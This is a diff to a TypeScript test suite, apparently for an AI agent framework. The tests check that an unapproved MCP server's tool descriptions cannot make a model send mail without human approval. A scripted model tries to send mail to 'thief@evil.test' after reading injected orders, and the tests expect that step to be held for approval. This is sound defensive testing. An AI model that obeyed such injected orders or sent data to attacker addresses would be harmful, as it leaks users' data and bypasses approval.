@@ -178,14 +178,14 @@ function withNameOrders(model: Model, requests: ModelRequest[]): Model {
 
 describe("a model that obeys what it reads of an MCP server", () => {
   it.each(Object.entries(carriers))("sends nothing unapproved because of %s (A49, A101)", async (_, tool) => {
-    await withNotes({ tool }, async ({ mcp, obey }) => {
+    await withNotes({ tool }, async ({ obey }) => {
       const { sent, result } = await obey();
       expect(sent).toEqual([]);
       expect(result).toMatchObject({
         status: "waiting",
         pending: [{ name: "send_mail", needs: "approval" }],
       });
-      expect(result.pending[0]?.reason).toContain(mcp.tools[0]?.name);
+      expect(result.pending[0]?.reason).toMatch(/descriptions? of “(?:MCP server notes|mcp_notes_search)”/);
       expect(await obey({ policy: { approvals: "deny" } })).toMatchObject({ sent: [] });
     });
   });
@@ -237,7 +237,7 @@ describe("a model that obeys what it reads of an MCP server", () => {
 describe("an MCP server that nobody has approved", () => {
   it("can be called, also with effects, and does not make reading need approval", async () => {
     await withNotes({}, async ({ mcp, obey }) => {
-      expect(mcp.tools).toMatchObject([{ foreign: "mcp:notes", effects: "state" }]);
+      expect(mcp.tools).toMatchObject([{ foreign: "MCP server notes", effects: "state" }]);
       const plan = [
         { name: "read_mail", input: {} },
         { name: "mcp_notes_search", input: {} },
@@ -253,7 +253,7 @@ describe("an MCP server that nobody has approved", () => {
     await withNotes({ options: { mcpServers } }, async ({ obey }) => {
       const { result } = await obey({ plan: [{ name: "mcp_bank_search", input: {} }] });
       expect(result).toMatchObject({ status: "waiting", pending: [{ name: "mcp_bank_search" }] });
-      expect(result.pending[0]?.reason).toContain("mcp_notes_search");
+      expect(result.pending[0]?.reason).toContain("the tool descriptions of “MCP server notes”");
     });
   });
 
@@ -270,7 +270,7 @@ describe("an MCP server that nobody has approved", () => {
     });
   });
 
-  it("is forgotten when it is gone: words that the model wrote because of it carry no label", async () => {
+  it("is not forgotten when it is gone: the model may have written down what it read (A101)", async () => {
     await withNotes({}, async ({ mcp, list }) => {
       const sent: unknown[] = [];
       const shared = { store: memory(), session: "s" };
@@ -283,8 +283,8 @@ describe("an MCP server that nobody has approved", () => {
       await ask(scriptedModel([{ text: `To do: ${order}` }]));
       const send = { calls: [{ name: "send_mail", input: { to: "thief@evil.test" } }] };
       await list();
-      expect(await ask(scriptedModel([send, { text: "Sent." }]))).toMatchObject({ status: "done" });
-      expect(sent).toHaveLength(1);
+      expect(await ask(scriptedModel([send, { text: "Sent." }]))).toMatchObject({ status: "waiting" });
+      expect(sent).toEqual([]);
     });
   });
 
@@ -353,10 +353,10 @@ describe("an approval", () => {
     await withNotes({}, async ({ mcp, list, obey }) => {
       await mcp.trust("notes");
       await list(search, { ...evil, name: "later" });
-      expect(mcp.tools.map(({ foreign }) => foreign)).toEqual([undefined, "mcp:notes"]);
+      expect(mcp.tools.map(({ foreign }) => foreign)).toEqual([undefined, "MCP server notes"]);
       const { sent, result } = await obey();
       expect(sent).toEqual([]);
-      expect(result.pending[0]?.reason).toContain("mcp_notes_later");
+      expect(result.pending[0]?.reason).toContain("the tool descriptions of “MCP server notes”");
     });
   });
 
@@ -371,6 +371,17 @@ describe("an approval", () => {
       expect(findStatus(mcp, "notes").isApproved).toBe(true);
     });
   });
+
+  it("of another process applies after a refresh", () =>
+    withFolder(async (folder) => {
+      const options = { trustFile: join(folder, "trust.json") };
+      await withNotes({ options }, async ({ mcp }) => {
+        await withNotes({ options }, async (other) => other.mcp.trust("notes"));
+        expect(findStatus(mcp, "notes").isApproved).toBe(false);
+        await mcp.refreshTools();
+        expect(findStatus(mcp, "notes").isApproved).toBe(true);
+      });
+    }));
 
   it("is stored; a trust file without approvals approves nothing", () =>
     withFolder(async (folder) => {
